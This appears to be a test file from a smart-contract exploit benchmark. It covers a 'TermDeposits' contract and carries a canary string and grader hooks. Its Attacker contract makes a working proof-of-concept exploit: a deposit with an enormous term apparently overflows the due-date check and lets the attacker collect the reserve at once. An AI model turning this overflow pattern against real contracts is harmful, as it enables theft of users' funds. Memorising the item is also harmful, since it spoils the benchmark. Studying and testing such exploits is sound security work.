// SPDX-License-Identifier: MIT
pragma solidity 0.7.6;

import "./TermDeposits.sol";
import "@openzeppelin/contracts@3.4.2-solc-0.7/token/ERC20/ERC20.sol";

// assay-canary-786b5b76-0ee6-4397-a778-2065e7e91a5f

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Coin is ERC20("Coin", "COIN") {
    constructor() {
        _mint(msg.sender, 10_000e18);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    uint256 private constant START = 1600000000;

    Coin private token;
    TermDeposits private desk;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        token = new Coin();
        desk = new TermDeposits(token);
        token.approve(address(desk), uint256(-1));
        desk.fillReserve(500e18);
        token.transfer(ANA, 2_000e18);
        vm.startPrank(ANA);
        token.approve(address(desk), uint256(-1));
        desk.deposit(1_000e18, 90);
        vm.stopPrank();
        mallory = new Attacker(desk, token);
        token.transfer(address(mallory), 1_000e18);
    }

    function test_Regular() public {
        vm.startPrank(ANA);
        uint256 longer = desk.deposit(500e18, 900);
        uint256 broken = desk.deposit(300e18, 60);
        vm.warp(START + 90 days);
        desk.collect(0);
        desk.breakTerm(broken);
        require(token.balanceOf(ANA) == 1_530e18, "three per cent, and none");
        vm.warp(START + 900 days);
        desk.collect(longer);
        require(token.balanceOf(ANA) == 2_130e18, "twenty per cent");
        vm.stopPrank();
        desk.fillReserve(10e18);
        require(desk.reserve() == 380e18 && token.balanceOf(address(desk)) == 380e18, "the rest");
    }

    function test_Refuses() public {
        vm.startPrank(ANA);
        vm.expectRevert("The term is too short.");
        desk.deposit(1, 29);
        vm.expectRevert("Nothing has arrived.");
        desk.deposit(0, 30);
        vm.expectRevert("The deposit is not due.");
        desk.collect(0);
        vm.stopPrank();
        token.approve(address(desk), uint256(-1));
        vm.expectRevert("The reserve is too small.");
        desk.deposit(3_000e18, 900);
        vm.expectRevert("The deposit is not yours.");
        desk.breakTerm(0);
        vm.warp(START + 90 days);
        vm.expectRevert("The deposit is not yours.");
        desk.collect(0);
        vm.expectRevert("A coin is needed.");
        new TermDeposits(IERC20(address(0)));
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(token.balanceOf(address(mallory)) >= 1_190e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(desk);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }

    function paidForTime() public view returns (bool) {
        uint256 most = 1_000e18 + 10e18 * ((block.timestamp - START) / 30 days);
        return token.balanceOf(address(mallory)) <= most;
    }
}

contract Attacker {
    TermDeposits private desk;
    Coin private token;

    constructor(TermDeposits d, Coin t) {
        desk = d;
        token = t;
    }

    function run() external {
        token.approve(address(desk), 1_000e18);
        desk.collect(desk.deposit(1_000e18, 2 ** 249));
    }
}
